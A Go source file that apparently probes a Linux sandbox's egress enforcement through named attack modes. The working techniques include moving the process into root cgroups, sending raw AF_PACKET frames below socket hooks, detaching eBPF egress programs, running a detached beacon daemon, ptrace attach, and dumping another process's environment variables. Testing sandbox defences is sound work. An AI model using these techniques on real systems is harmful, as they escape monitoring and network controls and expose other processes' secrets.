package main

import (
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/cilium/ebpf"
	"github.com/cilium/ebpf/asm"
	"github.com/cilium/ebpf/link"
	"golang.org/x/sys/unix"
)

// attack runs one of the attack modes (see the package comment); it
// reports false for a mode it does not know.
func attack(mode string, args []string) bool {
	switch mode {
	case "whoami":
		whoami()
	case "escape":
		escape(arg(args, 0), "exfiltrate")
	case "daemon":
		self, err := os.Executable()
		if err != nil {
			fail(err.Error())
		}
		c := exec.Command(self, "detach", arg(args, 0))
		c.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		if err := c.Run(); err != nil {
			fail(err.Error())
		}
		fmt.Println("beacon started")
		time.Sleep(time.Hour)
	case "detach":
		self, err := os.Executable()
		if err != nil {
			fail(err.Error())
		}
		c := exec.Command(self, "beacon", arg(args, 0))
		c.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		if err := c.Start(); err != nil {
			fail(err.Error())
		}
	case "beacon":
		moveToRoots()
		for {
			if c, err := net.DialTimeout("tcp", arg(args, 0), time.Second); err == nil {
				_, _ = c.Write([]byte("beat"))
				_ = c.Close()
			}
			time.Sleep(10 * time.Millisecond)
		}
	case "unshare":
		runtime.LockOSThread() // the namespace belongs to this thread
		fmt.Println("unshare net:", result(unix.Unshare(unix.CLONE_NEWNET)))
		fmt.Println("unshare user+net:", result(unix.Unshare(unix.CLONE_NEWUSER|unix.CLONE_NEWNET)))
		escape(arg(args, 0), "exfiltrate")
	case "packet":
		fmt.Println("packet:", result(sendPacket(arg(args, 0))))
	case "bpf":
		loadBPF()
		escape(arg(args, 0), "exfiltrate")
	case "ptrace":
		runtime.LockOSThread() // ptrace requests come from the tracing thread
		pid, _ := strconv.Atoi(arg(args, 0))
		if err := unix.PtraceAttach(pid); err != nil {
			fmt.Println("ptrace:", result(err))
			break
		}
		fmt.Println("attached")
		var ws unix.WaitStatus
		_, _ = unix.Wait4(pid, &ws, unix.WALL, nil)
		_ = unix.PtraceDetach(pid)
	case "unix":
		c, err := net.Dial("unix", arg(args, 0))
		if err == nil {
			_, err = c.Write([]byte("exfiltrate"))
			_ = c.Close()
		}
		fmt.Println("unix:", result(err))
	case "environ":
		b, err := os.ReadFile("/proc/" + arg(args, 0) + "/environ")
		if err != nil {
			fmt.Println("environ:", result(err))
			break
		}
		fmt.Println(strings.ReplaceAll(string(b), "\x00", "\n"))
	default:
		return false
	}
	return true
}

func whoami() {
	b, err := os.ReadFile("/proc/self/status")
	if err != nil {
		fail(err.Error())
	}
	for l := range strings.Lines(string(b)) {
		for _, k := range []string{"Uid:", "Gid:", "Groups:", "CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:", "NoNewPrivs:", "NSpid:"} {
			if strings.HasPrefix(l, k) {
				fmt.Print(l)
			}
		}
	}
}

// cgroup2Roots lists the cgroup2 mount points in /proc/self/mountinfo, and
// the usual places of one.
func cgroup2Roots() []string {
	roots := []string{"/sys/fs/cgroup", "/sys/fs/cgroup/unified"}
	if b, err := os.ReadFile("/proc/self/mountinfo"); err == nil {
		for l := range strings.Lines(string(b)) {
			f := strings.Fields(l)
			for i, x := range f {
				if x == "-" && i >= 5 && i+1 < len(f) && f[i+1] == "cgroup2" {
					roots = append(roots, f[4])
				}
			}
		}
	}
	return roots
}

// moveToRoots writes the process's pid into the cgroup.procs of each
// cgroup2 root: out of its cgroup, and out of reach of what is attached
// there.
func moveToRoots() {
	for _, r := range cgroup2Roots() {
		err := os.WriteFile(filepath.Join(r, "cgroup.procs"), []byte(strconv.Itoa(os.Getpid())), 0)
		fmt.Println("move to", r+":", result(err))
	}
}

func escape(addr, msg string) {
	moveToRoots()
	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err == nil {
		_, err = c.Write([]byte(msg))
		_ = c.Close()
	}
	fmt.Println("send:", result(err))
}

// sendPacket sends an IPv4 UDP datagram to addr as a link-layer frame on
// the loopback interface: below IP, where no socket hook sees it.
func sendPacket(addr string) error {
	ap, err := netip.ParseAddrPort(addr)
	if err != nil || !ap.Addr().Is4() {
		return errors.New("packet: IPv4 address:port needed")
	}
	lo, err := net.InterfaceByName("lo")
	if err != nil {
		return err
	}
	proto := uint16(unix.ETH_P_IP)
	be := proto<<8 | proto>>8
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM, int(be))
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	payload := []byte("exfiltrate")
	pkt := make([]byte, 20+8+len(payload))
	ip := pkt[:20]
	ip[0], ip[8], ip[9] = 0x45, 64, unix.IPPROTO_UDP
	ip[2], ip[3] = byte(len(pkt)>>8), byte(len(pkt))
	dst := ap.Addr().As4()
	copy(ip[12:16], []byte{127, 0, 0, 1})
	copy(ip[16:20], dst[:])
	var sum uint32
	for i := 0; i < 20; i += 2 {
		sum += uint32(ip[i])<<8 | uint32(ip[i+1])
	}
	for sum > 0xffff {
		sum = sum&0xffff + sum>>16
	}
	ip[10], ip[11] = byte(^sum>>8), byte(^sum)
	udp := pkt[20:]
	udp[0], udp[1] = 0xbe, 0xef
	udp[2], udp[3] = byte(ap.Port()>>8), byte(ap.Port())
	udp[4], udp[5] = byte(len(udp)>>8), byte(len(udp))
	copy(udp[8:], payload)
	// To lo's all-zero hardware address.
	return unix.Sendto(fd, pkt, 0, &unix.SockaddrLinklayer{Ifindex: lo.Index, Protocol: be, Halen: 6})
}

// loadBPF tries what a tool with CAP_BPF or CAP_SYS_ADMIN could do against
// the egress programs.
func loadBPF() {
	prog, err := ebpf.NewProgram(&ebpf.ProgramSpec{
		Type: ebpf.CGroupSKB, AttachType: ebpf.AttachCGroupInetEgress, License: "GPL",
		Instructions: asm.Instructions{asm.Mov.Imm(asm.R0, 1), asm.Return()},
	})
	fmt.Println("bpf load:", result(err))
	if err == nil {
		for _, r := range cgroup2Roots() {
			l, err := link.AttachCgroup(link.CgroupOptions{Path: r, Attach: ebpf.AttachCGroupInetEgress, Program: prog})
			fmt.Println("bpf attach", r+":", result(err))
			if err == nil {
				defer l.Close()
			}
		}
		defer prog.Close()
	}
	// Detach the links attached to its own cgroup.
	var own uint64
	if b, err := os.ReadFile("/proc/self/cgroup"); err == nil {
		for l := range strings.Lines(string(b)) {
			if p, ok := strings.CutPrefix(strings.TrimSpace(l), "0::"); ok {
				for _, r := range cgroup2Roots() {
					var st unix.Stat_t
					if unix.Stat(filepath.Join(r, p), &st) == nil {
						own = st.Ino
					}
				}
			}
		}
	}
	it := new(link.Iterator)
	for it.Next() {
		info, err := it.Link.Info()
		if err != nil {
			continue
		}
		if cg := info.Cgroup(); cg != nil && cg.CgroupId == own {
			fmt.Println("bpf detach link", it.ID, result(it.Link.Detach()))
		}
	}
	fmt.Println("bpf links:", result(it.Err()))
	dir, err := os.MkdirTemp("", "bpffs")
	if err == nil {
		err = unix.Mount("bpf", dir, "bpf", 0, "")
		if err == nil {
			_ = unix.Unmount(dir, 0)
		}
		_ = os.Remove(dir)
	}
	fmt.Println("mount bpffs:", result(err))
}
